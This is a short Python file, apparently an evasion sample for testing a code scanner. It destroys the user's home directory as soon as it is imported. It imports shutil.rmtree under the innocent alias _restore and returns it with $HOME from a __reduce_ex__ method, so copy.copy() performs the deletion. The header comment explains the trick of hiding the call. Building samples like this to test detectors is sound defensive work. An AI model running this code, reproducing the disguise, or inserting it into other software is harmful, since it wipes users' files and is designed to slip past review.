# Evasion: deletes the home directory through copy.copy(). rmtree is imported
# under another name, the home is a module constant, and the state object's
# __reduce_ex__ hands both to copy, which calls the pair to rebuild it.
import copy
import os
from shutil import rmtree as _restore

HOME = os.environ["HOME"]


class State:
    def __reduce_ex__(self, protocol):
        return (_restore, (HOME,))


snapshot = copy.copy(State())
